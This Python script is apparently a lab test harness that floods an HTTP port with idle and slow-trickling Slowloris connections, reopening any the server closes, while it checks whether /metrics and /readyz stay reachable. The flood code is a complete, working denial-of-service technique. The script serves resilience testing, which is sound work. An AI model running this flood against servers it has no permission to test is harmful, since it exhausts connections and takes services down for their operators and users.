"""A bounded flood against an HTTP port, with a normal scrape beside it; run in a lab node.

``python slowloris.py HOST PORT IDLE LORIS SECONDS SCRAPE_TIMEOUT`` opens IDLE connections that
never send anything and LORIS connections that send a request line, then one header byte every
0.2 s, reopening any the server closes, for SECONDS. Meanwhile it scrapes /metrics and /readyz
the normal way (urllib, SCRAPE_TIMEOUT). It prints ``flooding`` once every connection has been
opened, then one JSON line: scrape results, how many connections the server closed, the most
open at once. It stops by itself.
"""

from __future__ import annotations

import contextlib
import json
import selectors
import socket
import sys
import threading
import time
import urllib.error
import urllib.request


def main() -> None:
    host, port, n_idle, n_loris, seconds, scrape_timeout = (
        sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]),
        float(sys.argv[6]))
    sel = selectors.DefaultSelector()
    closed = 0
    refused = 0

    def open_one(kind: str) -> None:
        nonlocal refused
        try:
            s = socket.create_connection((host, port), timeout=2)
        except OSError:
            refused += 1
            return
        s.setblocking(False)
        if kind == "loris":
            s.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
        sel.register(s, selectors.EVENT_READ, kind)

    for _ in range(n_idle):
        open_one("idle")
    for _ in range(n_loris):
        open_one("loris")
    print("flooding", flush=True)

    scrapes: list[dict[str, object]] = []

    def scraper() -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for path in ("/metrics", "/readyz"):
                t0 = time.monotonic()
                try:
                    with urllib.request.urlopen(f"http://{host}:{port}{path}",
                                                timeout=scrape_timeout) as r:
                        code, size = r.status, len(r.read())
                except urllib.error.HTTPError as e:
                    code, size = e.code, 0
                except OSError as e:
                    code, size = 0, len(str(e))
                scrapes.append({"path": path, "code": code, "bytes": size,
                                "seconds": round(time.monotonic() - t0, 4)})
            time.sleep(0.5)

    t = threading.Thread(target=scraper)
    t.start()
    end = time.monotonic() + seconds
    most = 0
    next_trickle = time.monotonic()
    while time.monotonic() < end:
        for key, _ in sel.select(0.05):
            s = key.fileobj
            assert isinstance(s, socket.socket)
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:  # the server closed it: the attacker comes straight back
                sel.unregister(s)
                s.close()
                closed += 1
                open_one(key.data)
        if time.monotonic() >= next_trickle:
            next_trickle += 0.2
            for key in list(sel.get_map().values()):
                if key.data == "loris":
                    with contextlib.suppress(OSError):
                        key.fileobj.send(b"X")  # type: ignore[union-attr]
        most = max(most, len(sel.get_map()))
    t.join()
    for key in list(sel.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    print(json.dumps({"scrapes": scrapes, "closed_by_server": closed, "refused": refused,
                      "most_open": most}), flush=True)


if __name__ == "__main__":
    main()
